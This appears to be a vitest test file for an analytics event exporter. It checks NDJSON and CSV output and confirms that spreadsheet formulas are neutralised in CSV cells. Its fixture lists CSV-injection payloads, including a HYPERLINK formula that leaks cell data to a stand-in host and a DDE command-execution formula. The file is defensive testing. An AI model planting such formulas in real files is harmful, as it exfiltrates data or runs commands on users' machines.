import { describe, expect, it } from 'vitest';
import { formatEvents } from '../../src/modules/event-export/event-formats.ts';
import { type EventBatch, rowBatch } from '../../src/modules/event-store/event-batch.ts';
import { blankRow, EVENT_COLUMNS, type EventRow } from '../../src/modules/event-store/event-row.ts';
import { exportedRecord, parseCsv } from './support.ts';

/**
 * The formats write bytes straight from a batch's values (docs/decisions/028); what they write must be
 * what `JSON.stringify` of the record and RFC 4180 give, whether a value arrives as UTF-8 bytes (DuckDB)
 * or as a string (ClickHouse).
 */

const TRICKY = [
  'plain',
  '',
  'quote " and backslash \\ and slash /',
  'line\nbreak\r\nand\ttab \b \f',
  'controls \u0000 \u0001 \u001f \u007f',
  'comma, "quoted", end',
  'unicode: é ü 中文 \u2028 \u2029 🦊',
  'x'.repeat(5_000),
];

function rows(): EventRow[] {
  return TRICKY.map((text, index) => ({
    ...blankRow({
      project_id: 'p-1',
      id: `ev-${index}`,
      type: text,
      // Times across days, years and the edge of the epoch; milliseconds of every width.
      ts: [0, 1, 999, 86_399_999, Date.UTC(2026, 2, 1, 23, 59, 59, 7), Date.UTC(1969, 11, 31), 10, 99][
        index
      ] as number,
      received_at: Date.UTC(2026, 0, 1) + index * 37_001,
      user_id: text,
      session_id: `s-${text}`,
      origin: 'app.example.com',
    }),
    title: index % 2 === 0 ? text : null,
    chain_id: index % 3 === 0 ? null : 8453 * index,
    tx_value: index % 2 === 0 ? 10n ** 30n + BigInt(index) : null,
    error_code: index === 1 ? -32_603 : null,
  }));
}

/** The same rows written as a byte-holding adapter writes them: every text as UTF-8 bytes. */
function bytesBatch(batchRows: EventRow[]): EventBatch {
  const strings = rowBatch(batchRows);
  return {
    rowCount: strings.rowCount,
    writeTo(writer) {
      strings.writeTo({
        ...writer,
        text: writer.text,
        string(value) {
          // Somewhere inside a larger buffer, as DuckDB's vectors hold it.
          const bytes = Buffer.concat([Buffer.from('<<'), Buffer.from(value), Buffer.from('>>')]);
          writer.text(bytes, 2, bytes.length - 2);
        },
      });
    },
  };
}

async function formatted(batch: EventBatch, format: 'ndjson' | 'csv') {
  const parts: Buffer[] = [];
  const batches = (async function* () {
    yield batch;
  })();
  for await (const part of formatEvents(batches, format)) parts.push(part);
  return Buffer.concat(parts).toString('utf8');
}

const csvField = (value: string | number | null) => {
  if (value === null) return '';
  let text = String(value);
  if (typeof value === 'string' && /^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text))
    text = `'${text}`;
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
};

/** Cells a spreadsheet would run (OWASP "CSV Injection"), each with how the CSV must write it. */
const FORMULAS: [string, string][] = [
  [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`,
  ],
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['+1+1', "'+1+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['-32603', '-32603'],
  ['+44.5', '+44.5'],
  ['a=1', 'a=1'],
];

describe('the export formats', () => {
  const expectedNdjson = rows()
    .map((row) => `${JSON.stringify(exportedRecord(row))}\n`)
    .join('');
  const expectedCsv =
    `${EVENT_COLUMNS.map(({ name }) => name).join(',')}\r\n` +
    rows()
      .map((row) => `${Object.values(exportedRecord(row)).map(csvField).join(',')}\r\n`)
      .join('');

  it('writes NDJSON as JSON.stringify does, from strings and from UTF-8 bytes', async () => {
    expect(await formatted(rowBatch(rows()), 'ndjson')).toBe(expectedNdjson);
    expect(await formatted(bytesBatch(rows()), 'ndjson')).toBe(expectedNdjson);
  });

  it('writes RFC 4180 CSV with a header row, from strings and from UTF-8 bytes', async () => {
    expect(await formatted(rowBatch(rows()), 'csv')).toBe(expectedCsv);
    expect(await formatted(bytesBatch(rows()), 'csv')).toBe(expectedCsv);
  });

  it('neutralises spreadsheet formulas in CSV cells with a leading apostrophe, and leaves NDJSON raw', async () => {
    const formulaRows = FORMULAS.map(([text], index) => ({
      ...blankRow({
        project_id: 'p-1',
        id: `f-${index}`,
        type: 'page_view',
        ts: Date.UTC(2026, 2, 1) + index,
        received_at: Date.UTC(2026, 2, 1),
        user_id: 'u-1',
        session_id: 's-1',
        origin: 'app.example.com',
      }),
      path: text,
      utm_source: text,
    }));
    const pathColumn = EVENT_COLUMNS.findIndex(({ name }) => name === 'path');
    const sourceColumn = EVENT_COLUMNS.findIndex(({ name }) => name === 'utm_source');
    for (const batch of [rowBatch(formulaRows), bytesBatch(formulaRows)]) {
      const text = await formatted(batch, 'csv');
      const records = parseCsv(text).slice(1);
      FORMULAS.forEach(([original, written], index) => {
        expect(text).toContain(`,${written},`);
        const isNumber = /^[+-]?\d+(\.\d+)?$/.test(original);
        const neutralised = isNumber || original === 'a=1' ? original : `'${original}`;
        expect(records[index]?.[pathColumn]).toBe(neutralised);
        expect(records[index]?.[sourceColumn]).toBe(neutralised);
      });
    }
    const ndjson = (await formatted(rowBatch(formulaRows), 'ndjson')).trim().split('\n');
    expect(ndjson.map((line) => JSON.parse(line).utm_source)).toEqual(FORMULAS.map(([text]) => text));
  });
});
